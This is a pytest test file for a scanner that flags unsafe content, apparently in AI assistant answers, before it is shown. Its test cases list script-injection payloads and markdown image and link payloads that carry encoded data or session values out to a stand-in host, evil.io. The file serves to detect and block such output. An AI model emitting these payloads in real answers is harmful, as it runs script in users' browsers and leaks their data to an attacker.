"""What a page would run, and what carries data out; code that is shown as code is neither."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from pyarrow import parquet

from monitoring_pipelines.security.unsafe_output import unsafe_output

if TYPE_CHECKING:
    from pathlib import Path

SCANNER = unsafe_output(["bank.org"])


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("hi <script>alert(1)</script>", "active content"),
        ('<img src=x onerror="fetch(1)">', "active content"),
        ("[click](javascript:alert(1))", "active content"),
        ('<a href="javascript:x">y</a>', "active content"),
        ("![x](https://evil.io/p.png?d=YW5hQGJhbmsub3Jn)", "picture of an unlisted host"),
        ('<img src="https://evil.io/p?data=0123456789">', "picture of an unlisted host"),
        ("see [more](https://evil.io/?session=abcdef0123)", "link of an unlisted host"),
        # signs of code that nothing closes are no code to who shows it
        ("a ``` b ![x](https://evil.io/p?d=0123456789ab)", "picture of an unlisted host"),
        ("![x](HTTPS://evil.io/p?d=0123456789ab)", "picture of an unlisted host"),
        ("![x](//evil.io/p?d=0123456789ab)", "picture of an unlisted host"),
        ("![x][r]\n\n[r]: https://evil.io/p?d=0123456789ab", "link of an unlisted host"),
        ("![x](https://bank.org.evil.io/p?d=0123456789ab)", "picture of an unlisted host"),
    ],
)
def test_found(text: str, kind: str) -> None:
    assert [hit.kind for hit in SCANNER.scan(text)] == [kind]
    assert re.search(SCANNER.hint, text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "use a `<script>` tag",
        "```html\n<script>alert(1)</script>\n```",
        "```js\n<script> that never ends",
        "[docs](https://evil.io/docs)",
        "[more](https://www.bank.org/?session=abcdef0123)",
        "![x](https://bank.org/p.png?d=YW5hQGJhbmsub3Jn)",
        "1 < 2 and a<b",
    ],
)
def test_not_found(text: str) -> None:
    assert [*SCANNER.scan(text)] == []


def test_answers_of_assistants_show_code_as_code(test_data: Path) -> None:
    answers = parquet.read_table(
        test_data / "llm_arena_hard" / "answers.parquet", columns=["answer"]
    )
    texts = answers.column("answer").to_pylist()
    assert sum(any(SCANNER.scan(text)) for text in texts) <= 0.005 * len(texts)
